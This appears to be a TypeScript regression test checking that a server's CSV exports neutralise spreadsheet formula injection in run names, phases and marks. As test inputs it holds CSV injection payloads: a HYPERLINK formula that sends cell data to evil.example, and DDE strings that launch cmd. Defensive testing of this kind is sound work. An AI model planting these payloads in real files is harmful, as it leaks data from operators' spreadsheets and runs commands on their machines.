import assert from 'node:assert/strict';
import { test } from 'node:test';
import { createEngine } from '../../engine/create-engine.js';
import { csvCell } from '../../engine/facts/export/csv-cell.js';
import { startServeServer } from '../serve-server.js';
import { makeStaticRoot, waitFor } from './helpers.js';

// OWASP CSV injection: a run name, a phase or a chart mark typed by anyone holding the token became a formula in
// the operator's spreadsheet when an export was opened there.

const RUN = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
const PHASE = "+cmd|' /C calc'!A0";
const MARK = "@SUM(1+1)*cmd|' /C calc'!A0";

/** RFC 4180 records: quoted fields may hold commas and doubled quotes (the exports write no line break in one). */
function csvRecords(text: string): string[][] {
  return text
    .trimEnd()
    .split('\n')
    .map((line) => {
      const fields: string[] = [];
      const field = /("(?:[^"]|"")*"|[^,]*)(,|$)/y;
      for (let m = field.exec(line); m !== null; m = field.exec(line)) {
        const raw = m[1] ?? '';
        fields.push(raw.startsWith('"') ? raw.slice(1, -1).replace(/""/g, '"') : raw);
        if (m[2] === '') break;
      }
      return fields;
    });
}

/** What a spreadsheet evaluates: a field that starts with one of these. */
const FORMULA = /^[=+\-@\t\r]/;
const NUMBER = /^-?\d+(\.\d+)?(e[+-]?\d+)?$/i;

function noFormula(records: string[][], what: string): void {
  for (const r of records) for (const f of r) assert.ok(!FORMULA.test(f) || NUMBER.test(f), `${what}: the field ${JSON.stringify(f)} would be evaluated`);
}

test('a CSV field that would start a formula is prefixed with a quote; figures, negative ones included, stay numbers', () => {
  assert.equal(csvCell('=1+1'), `"'=1+1"`);
  assert.equal(csvCell('+1'), `"'+1"`);
  assert.equal(csvCell('-2+3'), `"'-2+3"`);
  assert.equal(csvCell('-'), `"'-"`);
  assert.equal(csvCell('@SUM(A1)'), `"'@SUM(A1)"`);
  assert.equal(csvCell('=A1,"x"'), `"'=A1,""x"""`);
  // TAB and CR are shown as text by the outside-text rule before anything else.
  assert.equal(csvCell('\t=1+1'), '\\x09=1+1');
  assert.equal(csvCell('\r=1+1'), '\\x0d=1+1');
  for (const n of ['-12', '-0.0312', '-1e-7', '0', '1234', '1e+21', '3.50']) assert.equal(csvCell(n), n);
  assert.equal(csvCell('a, "b"'), '"a, ""b"""');
  assert.equal(csvCell('plain'), 'plain');
});

test('run report and history exports over HTTP: a hostile run name, phase and mark are text, figures are numbers', { timeout: 90_000 }, async (t) => {
  const engine = await createEngine({ host: 'serve', simulator: { scenario: 'steady', dataNodes: 2, speed: 4 }, pollIntervalMs: 300 });
  const dir = await makeStaticRoot();
  const server = await startServeServer({ engine, staticDir: dir.root, port: 0 });
  t.after(async () => {
    await server.close();
    await engine.close();
    await dir.cleanup();
  });
  const base = `http://127.0.0.1:${server.port}`;
  const post = async (path: string, body: unknown): Promise<Record<string, unknown>> => {
    const res = await fetch(`${base}${path}`, { method: 'POST', headers: { 'Content-Type': 'application/json' }, body: JSON.stringify(body) });
    const value = (await res.json()) as Record<string, unknown>;
    assert.ok(res.ok, JSON.stringify(value));
    return value;
  };
  const started = Date.now();
  const run = await post('/api/runs', { name: RUN, phase: PHASE, tags: { k: MARK } });
  const runId = String(run.id);
  await waitFor(async () => (((await engine.handlers.getRunReports({ runIds: [runId], figure: 'transactions' })).runs[0]?.summary.transactions?.samples ?? 0) >= 2 ? true : undefined), 'two samples in the run', 60_000);
  await post(`/api/runs/${encodeURIComponent(runId)}/stop`, {});

  const report = await fetch(`${base}/api/runs?format=csv`);
  assert.equal(report.status, 200);
  const text = await report.text();
  const records = csvRecords(text);
  noFormula(records, '/api/runs csv');
  const [header, ...rows] = records;
  assert.deepEqual(header?.slice(0, 5), ['kind', 'run_id', 'run_name', 'phase', 'figure']);
  const ours = rows.filter((r) => r[1] === runId);
  assert.ok(ours.length > 0, text);
  for (const r of ours) assert.equal(r[2], `'${RUN}`, 'the name is shown, with the quote that keeps it text');
  assert.ok(ours.some((r) => r[3] === `'${PHASE}`), 'the phase likewise');
  assert.ok(text.includes(`,"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",`), 'quoted as RFC 4180 wants');
  const figures = ours.flatMap((r) => r.slice(5)).filter((f) => f !== '');
  assert.ok(figures.length > 0 && figures.every((f) => NUMBER.test(f)), `the figures are numbers: ${figures.join(' ')}`);

  const marks = JSON.stringify([{ at: started - 60_000, label: MARK }]);
  const history = await fetch(`${base}/api/export?format=csv&marks=${encodeURIComponent(marks)}`);
  assert.equal(history.status, 200);
  const historyText = await history.text();
  const [columns, ...samples] = csvRecords(historyText);
  noFormula([columns ?? [], ...samples], '/api/export csv');
  const phase = columns?.indexOf('phase') ?? -1;
  assert.ok(phase >= 0 && samples.length > 0, historyText.slice(0, 400));
  assert.ok(samples.every((s) => s[phase] === `'${MARK}`), 'every sample carries the mark as text');
  const values = samples.flatMap((s) => s.slice(4)).filter((f) => f !== '');
  assert.ok(values.length > 0 && values.every((f) => NUMBER.test(f)), 'the samples are numbers');
});
